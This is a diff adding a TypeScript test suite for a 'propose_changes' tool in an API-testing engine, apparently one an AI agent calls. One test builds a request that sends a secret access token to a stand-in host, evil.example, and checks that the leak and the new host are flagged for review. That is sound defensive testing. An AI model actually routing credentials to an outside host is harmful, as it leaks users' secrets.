@@ -1,0 +1,271 @@
+import { readFileSync } from 'node:fs'
+import * as fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { applyEdit } from '#engine/project/edit/edit.ts'
+import { joinProject, stateOf } from '#engine/project/edit/state.ts'
+import { problemsOf } from '#engine/project/problems.ts'
+import { readProject } from '#engine/project/read.ts'
+import type { Project } from '#engine/project/schema.ts'
+import { fuzzRuns } from '../../../../e2e/fuzz-runs.ts'
+import { callTool, emptyWorkingMemory, type SecretlessProject, type ToolResult, type ToolWorld } from '../index.ts'
+
+const read = readProject(readFileSync(new URL('../../../../eval/projects/shop.aprj', import.meta.url), 'utf8'))
+if (!read.ok) throw new Error('unreachable: the project can be read')
+const shop = read.value.project as SecretlessProject
+
+const worldWith = (more: Partial<ToolWorld> = {}): ToolWorld => ({
+  projects: [{ id: 'shop', project: shop }],
+  memory: emptyWorkingMemory(),
+  seed: 7,
+  ...more,
+})
+
+const propose = async (changes: unknown[], more: Partial<ToolWorld> = {}): Promise<ToolResult> =>
+  (await callTool('propose_changes', { summary: 'Change it', changes }, worldWith(more))).result
+
+/** The project after a proposal. */
+function applied(result: ToolResult, project: Project = shop): Project {
+  if (result.kind !== 'proposal') throw new Error(`No proposal: ${JSON.stringify(result)}`)
+  const after = applyEdit(stateOf(project), result.changeSet.edit, 'forward')
+  return joinProject(after.head, ({ id }) => after.cases.get(id))
+}
+
+const caseNamed = (project: Project, name: string) =>
+  project.suites.flatMap(({ cases }) => cases).find((one) => one.name === name)
+
+const itemsWith = (result: ToolResult, text: string) =>
+  result.kind === 'proposal'
+    ? result.changeSet.items.filter(({ attention = [] }) => attention.some((one) => one.includes(text)))
+    : []
+
+describe('propose_changes', () => {
+  it('[A6] makes a flow of steps, with requests from operations and names from the same list', async () => {
+    const result = await propose([
+      { do: 'add_suite', name: 'Flows' },
+      {
+        do: 'add_case',
+        suite: 'Flows',
+        name: 'Create and delete',
+        steps: [
+          { kind: 'send-request', from: 'POST /orders', fields: { quantity: '${amount}' }, omit: ['gift'], name: 'Create it' },
+          { kind: 'assertion', checks: [{ source: 'status', is: 'equals', value: 201 }] },
+          { kind: 'data-transfer', transfers: [{ source: 'json', path: '$.id', to: 'order_id' }] },
+          { kind: 'send-request', from: 'DELETE /orders/{orderId}', fields: { orderId: '${order_id}' } },
+          { kind: 'assertion', step: 'Create it', checks: [{ source: 'json', path: '$.id', is: 'exists' }] },
+        ],
+      },
+      { do: 'set_variable', name: 'amount', value: 3, case: 'Create and delete' },
+    ])
+    const made = caseNamed(applied(result), 'Create and delete')
+    expect(made?.steps.map(({ kind }) => kind)).toEqual([
+      'oauth2',
+      'send-request',
+      'assertion',
+      'data-transfer',
+      'send-request',
+      'assertion',
+    ])
+    const [, create, , , remove, last] = made?.steps ?? []
+    // A reference for a number stands without quotes, a member to omit is gone, and a name of a step is its id.
+    expect(create).toMatchObject({ body: { text: expect.stringContaining('"quantity": ${amount}') as string } })
+    expect(JSON.stringify(create)).not.toContain('gift')
+    expect(remove).toMatchObject({ url: '${baseUrl}/orders/${order_id}' })
+    expect(last).toMatchObject({ step: create?.id })
+  })
+
+  it('[A7] refuses as a whole, and names what is valid', async () => {
+    const texts = await Promise.all(
+      [
+        [{ do: 'add_case', suite: 'Ordres', name: 'x' }],
+        [{ do: 'add_steps', case: 'c3', steps: [{ kind: 'send-request', from: 'POST /order' }] }],
+        [
+          {
+            do: 'add_steps',
+            case: 'c3',
+            steps: [{ kind: 'assertion', checks: [{ source: 'status', is: 'equals', value: '${oops}' }] }],
+          },
+        ],
+        [{ do: 'edit_step', step: 't1', set: { colour: 'red' } }],
+        [{ do: 'add_steps', case: 'c3', steps: [{ kind: 'send-request', from: 'POST /orders', omit: ['colour'] }] }],
+      ].map(async (changes) => {
+        const result = await propose(changes)
+        return result.kind === 'problems' ? result.text : `accepted: ${JSON.stringify(changes)}`
+      }),
+    )
+    expect(texts[0]).toContain('Valid: Orders [s1]')
+    expect(texts[1]).toContain('Valid: POST /orders')
+    expect(texts[2]).toContain('Variables there are: baseUrl')
+    expect(texts[3]).toContain('Valid: name,')
+    expect(texts[4]).toContain('Valid: sku, quantity')
+  })
+
+  it('[A5] makes the tests of a design as they lie in working memory', async () => {
+    const { memory, result } = await callTool(
+      'run_design',
+      { method: 'boundaries', operation: 'POST /orders', parameters: ['quantity'] },
+      worldWith(),
+    )
+    expect(result).toMatchObject({ kind: 'data', text: expect.stringMatching(/^D1: Boundary values/) as string })
+    const [design] = memory.designs
+    if (!design) throw new Error('unreachable: there is a design')
+    // A value that no discovery would find shows where the tests come from.
+    const tests = design.tests.map((test, at) => (at === 0 ? { ...test, values: { 'body.quantity': 4711 } } : test))
+    const built =
+      design.built?.map((one, at) => (at === 0 ? { ...one, body: { ...(one.body as object), quantity: 4711 } } : one)) ?? []
+    const told = { ...memory, designs: [{ ...design, tests, built }] }
+    const project = applied(await propose([{ do: 'add_case', suite: 'Orders', design: 'D1' }], { memory: told }))
+    expect(JSON.stringify(project.dataSources)).toContain('4711')
+    expect(project.designs).toMatchObject([{ method: 'boundaries', source: { operation: 'createOrder' } }])
+  })
+
+  it('[A9] marks new hosts, secrets elsewhere, removals and weaker checks', async () => {
+    const sent = { kind: 'send-request', name: 'Send', url: 'https://${part}.example/x', method: 'POST' }
+    const leak = await propose([
+      { do: 'set_variable', name: 'part', value: 'evil' },
+      { do: 'add_steps', case: 'c1', steps: [{ ...sent, headers: [{ name: 'X-Key', value: '${access_token}' }] }] },
+    ])
+    expect(itemsWith(leak, 'New host: evil.example')).toMatchObject([{ of: 'step', unticked: true }])
+    expect(itemsWith(leak, 'secret ${access_token} is sent to evil.example')).toHaveLength(1)
+    const told = await propose([{ do: 'add_steps', case: 'c1', steps: [{ ...sent, url: 'https://partner.example/x' }] }], {
+      allowedHosts: ['partner.example'],
+    })
+    expect(itemsWith(told, 'host')).toEqual([])
+    const moved = await propose([{ do: 'set_variable', name: 'baseUrl', environment: 'Staging', value: 'https://evil.example' }])
+    expect(itemsWith(moved, 'evil.example')).toMatchObject([{ of: 'environment', unticked: true }])
+    const removal = [{ do: 'remove', of: 'case', target: 'c5' }]
+    expect(itemsWith(await propose(removal), 'Removes')).toMatchObject([{ unticked: true }])
+    expect(itemsWith(await propose(removal, { asksRemoval: true }), 'Removes')[0]).not.toHaveProperty('unticked')
+    const assertion = shop.suites[0]?.cases[0]?.steps.find(({ kind }) => kind === 'assertion')
+    const weaker = await propose([
+      { do: 'edit_step', step: assertion?.id, set: { checks: [{ source: 'status', is: 'less-than', value: 500 }] } },
+    ])
+    expect(itemsWith(weaker, 'Weaker')).not.toEqual([])
+  })
+
+  it(
+    '[A7] any list of changes gives problems, or a project in which nothing is wrong that was not before',
+    { timeout: 60_000 },
+    async () => {
+      const name = fc.constantFrom(
+        'Orders',
+        's1',
+        'New',
+        'c1',
+        'c3',
+        'Pay an order',
+        'Check',
+        't1',
+        'baseUrl',
+        'nope',
+        '',
+        'Staging',
+      )
+      const check = fc.record(
+        {
+          source: fc.constantFrom('status', 'json'),
+          path: fc.constantFrom('$.id', '$..['),
+          is: fc.constantFrom('equals', 'exists', 'nonsense'),
+          value: fc.constantFrom(201, '${oops}'),
+        },
+        { requiredKeys: ['source', 'is'] },
+      )
+      const step = fc.oneof(
+        fc.record(
+          {
+            kind: fc.constant('send-request'),
+            from: fc.constantFrom('POST /orders', 'GET /orders/{orderId}', 'PUT /nope'),
+            as: fc.constantFrom('none', 'wrong', 'admin'),
+            fields: fc.dictionary(fc.constantFrom('sku', 'quantity', 'x'), fc.jsonValue({ maxDepth: 1 })),
+          },
+          { requiredKeys: ['kind', 'from'] },
+        ),
+        fc.record(
+          {
+            kind: fc.constantFrom('assertion', 'data-transfer', 'loop-start', 'loop-end', 'wait', 'sql', 'teleport'),
+            checks: fc.array(check, { maxLength: 2 }),
+            step: name,
+            seconds: fc.integer(),
+          },
+          { requiredKeys: ['kind'] },
+        ),
+      )
+      const steps = fc.array(step, { maxLength: 3 })
+      const change = fc.oneof(
+        fc.record({ do: fc.constant('add_suite'), name }),
+        fc.record(
+          {
+            do: fc.constant('add_case'),
+            suite: name,
+            name,
+            steps,
+            rows: fc.array(fc.dictionary(fc.constantFrom('sku', 'a b'), fc.constantFrom('1', 2)), { maxLength: 2 }),
+            design: fc.constant('D1'),
+          },
+          { requiredKeys: ['do', 'suite', 'name'] },
+        ),
+        fc.record(
+          { do: fc.constant('add_steps'), case: name, steps, before: name, first: fc.boolean() },
+          { requiredKeys: ['do', 'case', 'steps'] },
+        ),
+        fc.record(
+          {
+            do: fc.constantFrom('remove', 'rename'),
+            of: fc.constantFrom('suite', 'case', 'step', 'variable', 'project', 'environment'),
+            target: name,
+            case: name,
+            to: name,
+          },
+          { requiredKeys: ['do', 'of', 'target'] },
+        ),
+        fc.record(
+          {
+            do: fc.constantFrom('move_case', 'set_tags', 'order_steps'),
+            case: name,
+            suite: name,
+            tags: fc.array(name),
+            steps: fc.array(name, { maxLength: 2 }),
+            before: name,
+          },
+          { requiredKeys: ['do', 'case'] },
+        ),
+        fc.record(
+          {
+            do: fc.constant('set_variable'),
+            name,
+            value: fc.constantFrom('x', '${baseUrl}', '${'),
+            environment: name,
+            secret: fc.boolean(),
+          },
+          { requiredKeys: ['do', 'name'] },
+        ),
+        fc.record(
+          { do: fc.constant('set_load_test'), target: name, users: fc.integer(), duration: fc.integer() },
+          { requiredKeys: ['do'] },
+        ),
+        fc.record({
+          do: fc.constant('edit_step'),
+          step: fc.constantFrom('t1', 'Check'),
+          set: fc.dictionary(fc.constantFrom('name', 'checks', 'step', 'url', 'disabled'), fc.jsonValue({ maxDepth: 1 })),
+        }),
+        fc.jsonValue({ maxDepth: 2 }),
+      )
+      const before = new Set(problemsOf(shop).map(({ path, text }) => `${path}: ${text}`))
+      await fc.assert(
+        fc.asyncProperty(fc.array(change, { maxLength: 5 }), async (changes) => {
+          const result = await propose(changes)
+          if (result.kind === 'problems') {
+            expect(new TextEncoder().encode(result.text).length).toBeLessThanOrEqual(4_000)
+            return
+          }
+          const after = applied(result)
+          expect(
+            problemsOf(after)
+              .map(({ path, text }) => `${path}: ${text}`)
+              .filter((one) => !before.has(one)),
+          ).toEqual([])
+        }),
+        { numRuns: fuzzRuns(1_200) },
+      )
+    },
+  )
+})
